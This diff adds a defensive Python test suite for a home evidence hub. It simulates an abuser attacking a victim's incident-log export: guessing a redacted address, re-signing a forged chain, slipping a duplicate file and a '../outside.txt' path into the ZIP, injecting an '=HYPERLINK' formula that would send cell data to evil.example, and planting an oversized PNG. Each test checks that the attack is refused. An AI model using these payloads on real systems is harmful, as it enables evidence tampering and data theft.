@@ -1,0 +1,208 @@
+"""He gets her export through discovery: he guesses what was redacted, re-signs a changed copy, slips a
+second file into the ZIP, plants a formula for the spreadsheet, and sends her a photo no thumbnail survives."""
+
+from __future__ import annotations
+
+import base64
+import csv
+import io
+import hashlib
+import json
+import struct
+import subprocess
+import sys
+import warnings
+import zipfile
+import zlib
+from pathlib import Path
+
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+
+from hub.chain import canonical_json, checkpoint_message, commitment, entry_hash, row_hash
+from hub.config import parse_config
+from hub.events import Event, Severity
+from hub.export import ExportRequest, ExportResult, build_export
+from hub.keys import public_key_b64
+from hub.store import Store
+from tests.conftest import FACES
+
+ADDRESS = "14 Elm Street, Springfield"
+# What he would try: every house number on the streets near her old flat.
+GUESSES = [f"{n} {street}, Springfield" for street in ("Elm Street", "Oak Road", "Mill Lane") for n in range(1, 200)]
+
+
+def _export(store: Store, tmp_path: Path, redacted: bool, **detail: object) -> tuple[ExportResult, Path]:
+    config = parse_config({"data_dir": str(store.log.data_dir), "device_name": "hall-hub"})
+    log = store.log
+    photo = log.evidence.put_bytes((FACES / "obama.jpg").read_bytes())
+    seq = log.append(Event("incident.report", "owner", Severity.NOTICE, {
+        "description": "His car parked across the road for an hour", "category": "surveillance",
+        "location": ADDRESS, "witnesses": [{"name": "Ann", "contact": "555-0101"}],
+        "attachments": [{"sha256": photo, "name": "his-car-outside-mums-house.jpg", "size": 1}], **detail},
+        evidence=(photo,)))
+    result = build_export(log, config, ExportRequest((seq,), redacted=redacted), tmp_path / "out")
+    with zipfile.ZipFile(result.path) as archive:
+        archive.extractall(tmp_path / "unzipped")
+    [folder] = list((tmp_path / "unzipped").iterdir())
+    return result, folder
+
+
+def _verify(where: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    script = where / "verify.py" if where.is_dir() else where.parent / "unzipped-verify.py"
+    if not where.is_dir():
+        with zipfile.ZipFile(where) as archive:
+            [name] = [n for n in archive.namelist() if n.endswith("/verify.py")]
+            script.write_bytes(archive.read(name))
+    return subprocess.run([sys.executable, str(script), *args, str(where)], capture_output=True, text=True,
+                          timeout=60, env={"PATH": "/usr/bin:/bin"})
+
+
+def test_a_redacted_field_cannot_be_guessed_from_the_copy(store: Store, tmp_path: Path) -> None:
+    result, folder = _export(store, tmp_path, redacted=True)
+    everything = b"".join(p.read_bytes() for p in folder.rglob("*") if p.is_file())
+    for secret in (ADDRESS.encode(), b"555-0101", b"his-car-outside-mums-house"):
+        assert secret not in everything
+    [line] = [json.loads(x) for x in (folder / "log" / "chain.jsonl").read_text().splitlines() if "committed" in x]
+    shown = json.loads(line["committed"])
+    stored = json.loads(next(r.content for r in store.log.raw_rows() if r.seq == line["seq"]))
+    salt = stored["salts"]["location"]
+    assert salt.encode() not in everything  # the salts stay on the hub
+    # The old attack: put each guess back into the row and see which one gives the row's hash.
+    for guess in GUESSES:
+        trial = {**shown, "detail": {**shown["detail"], "location": guess}}
+        assert entry_hash(line["prev_hash"], canonical_json(trial)) != line["hash"]
+    # Against the commitment itself he has no salt; even knowing the scheme, no guess matches without it.
+    target = shown["detail"]["location"]["committed"]
+    assert all(commitment("", g) != target for g in GUESSES)
+    assert commitment(salt, ADDRESS) == target  # ...while the hub, holding the salt, can prove the value
+    # And the redacted copy still proves each row: it matches its hash in the chain.
+    ok = _verify(folder)
+    assert ok.returncode == 0, ok.stdout
+    assert "salted commitments" in ok.stdout and "still matches its hash" in ok.stdout
+
+
+def _resign(folder: Path, key: Ed25519PrivateKey) -> None:
+    """What he does with the full copy: change a row, rebuild the chain and sign it all with his own key."""
+    public = public_key_b64(key.public_key())
+    chain = folder / "log" / "chain.jsonl"
+    rows = [json.loads(x) for x in chain.read_text().splitlines()]
+    prev = rows[0]["prev_hash"]
+    for row in rows:
+        content = json.loads(row["content"])
+        if content["kind"] == "incident.report":
+            content["detail"]["description"] = "She made it up"
+        if content["kind"] == "log.checkpoint":
+            at = content["detail"]["at"]
+            content["detail"].update(head_hash=prev, public_key=public, signature=base64.b64encode(
+                key.sign(checkpoint_message(row["seq"] - 1, prev, at))).decode())
+        row["content"] = canonical_json(content)
+        row["prev_hash"], row["hash"] = prev, row_hash(prev, row["content"])
+        prev = row["hash"]
+    chain.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows))
+    (folder / "device-public-key.txt").write_text(public + "\n")
+    names = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*")
+                   if p.is_file() and p.name not in ("SHA256SUMS", "SHA256SUMS.sig"))
+    sums = "".join(f"{hashlib.sha256((folder / n).read_bytes()).hexdigest()}  {n}\n" for n in names).encode()
+    (folder / "SHA256SUMS").write_bytes(sums)
+    (folder / "SHA256SUMS.sig").write_text(base64.b64encode(key.sign(sums)).decode() + "\n")
+
+
+def test_a_re_signed_export_is_refused_with_her_fingerprint(store: Store, tmp_path: Path) -> None:
+    result, folder = _export(store, tmp_path, redacted=False)
+    hers = store.log.key.fingerprint
+    assert _verify(folder, "--key", hers).returncode == 0
+    assert _verify(folder, "--key", hers.upper().replace(":", " ")).returncode == 0  # as she may type it
+    _resign(folder, Ed25519PrivateKey.generate())
+    alone = _verify(folder)
+    assert alone.returncode == 0 and "NOT CHECKED against a known fingerprint" in alone.stdout  # why --key matters
+    refused = _verify(folder, "--key", hers)
+    assert refused.returncode == 1
+    assert "FAIL: device-public-key.txt: this export was signed by the key" in refused.stdout
+    assert "not by the hub whose fingerprint you gave" in refused.stdout
+    bad = _verify(folder, "--key", "not-a-fingerprint")
+    assert bad.returncode == 1 and "is not a device key fingerprint" in bad.stdout
+
+
+def test_she_receives_the_fingerprint_on_the_backup_sheet(store: Store, tmp_path: Path) -> None:
+    from tests.conftest import run_cli
+
+    store.log.append(Event("hub.started", "hub"))
+    printed = run_cli("backup", "--data", str(store.log.data_dir), "--to", str(tmp_path / "backup"))
+    assert printed.returncode == 0, printed.stderr
+    assert store.log.key.fingerprint in printed.stdout
+
+
+def test_a_second_copy_of_a_file_slipped_into_the_zip_is_refused(store: Store, tmp_path: Path) -> None:
+    result, folder = _export(store, tmp_path, redacted=False)
+    top = folder.name
+    with warnings.catch_warnings(), zipfile.ZipFile(result.path, "a") as archive:
+        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name he means to write
+        # Most unzip tools show the last copy; the first still matches SHA256SUMS.
+        archive.writestr(f"{top}/log/chain.jsonl", b'{"seq": 1, "content": "forged"}\n')
+        archive.writestr(f"{top}/../outside.txt", b"where does this go")
+    refused = _verify(result.path)
+    assert refused.returncode == 1
+    assert "FAIL: log/chain.jsonl: appears twice in the ZIP" in refused.stdout
+    assert "FAIL: ../outside.txt: not a name the hub writes" in refused.stdout
+
+
+def test_a_formula_in_his_text_is_not_run_by_a_spreadsheet(store: Store, tmp_path: Path) -> None:
+    log = store.log
+    seqs = [log.append(Event("face.match", f'{sign}HYPERLINK("http://evil.example/?"&A1,"Click")',
+                             Severity.CRITICAL, {"person": "him"},
+                             evidence=(log.evidence.put_bytes(b"\xff\xd8\xff\xe0 photo " + sign.encode()),)))
+            for sign in "=+-@"]
+    config = parse_config({"data_dir": str(store.log.data_dir), "device_name": "hall-hub"})
+    result = build_export(log, config, ExportRequest(tuple(seqs)), tmp_path / "out")
+    with zipfile.ZipFile(result.path) as archive:
+        archive.extractall(tmp_path / "unzipped")
+    [folder] = list((tmp_path / "unzipped").iterdir())
+    manifest = (folder / "manifest.csv").read_text()
+    lines = list(csv.DictReader(io.StringIO(manifest)))
+    sources = {line["source"] for line in lines}
+    assert len(sources) == 4 and all(not cell[:1] in "=+-@" for line in lines for cell in line.values())
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in sources  # shown, never run
+
+
+def _png_header_only(width: int, height: int) -> bytes:
+    """A PNG that claims to be width x height: the header is all a decoder needs to be fooled."""
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(bytes(1000))) + \
+        chunk(b"IEND", b"")
+
+
+def test_a_huge_photo_does_not_stop_the_export(store: Store, tmp_path: Path) -> None:
+    log = store.log
+    bomb = log.evidence.put_bytes(_png_header_only(30000, 30000))
+    big = log.evidence.put_bytes(_png_header_only(9000, 9000))
+    seqs = [log.append(Event("incident.report", "owner", Severity.NOTICE,
+                             {"description": "A photo he sent", "category": "contact"}, evidence=(sha,)))
+            for sha in (bomb, big)]
+    config = parse_config({"data_dir": str(store.log.data_dir), "device_name": "hall-hub"})
+    result = build_export(log, config, ExportRequest(tuple(seqs)), tmp_path / "out")
+    assert result.evidence_files == 2
+    with zipfile.ZipFile(result.path) as archive:
+        [pdf] = [n for n in archive.namelist() if n.endswith("report.pdf")]
+        report = archive.read(pdf)
+    assert report.startswith(b"%PDF-")
+    from hub.report import thumbnail
+    assert "too large to draw a thumbnail" in str(thumbnail(_png_header_only(30000, 30000)))
+    assert "9000x9000 pixels is too large" in str(thumbnail(_png_header_only(9000, 9000)))
+    assert isinstance(thumbnail((FACES / "obama.jpg").read_bytes()), bytes)
+
+
+def test_a_huge_photo_is_refused_before_decoding_at_enrolment(tmp_path: Path) -> None:
+    from hub.errors import InputRejected
+    from hub.vision.faces import load_rgb
+
+    for size in (30000, 9000):
+        photo = tmp_path / f"him-{size}.png"
+        photo.write_bytes(_png_header_only(size, size))
+        try:
+            load_rgb(photo)
+        except InputRejected as err:
+            assert photo.name in str(err) and "pixels" in str(err)
+        else:
+            raise AssertionError(f"{photo.name} was decoded")
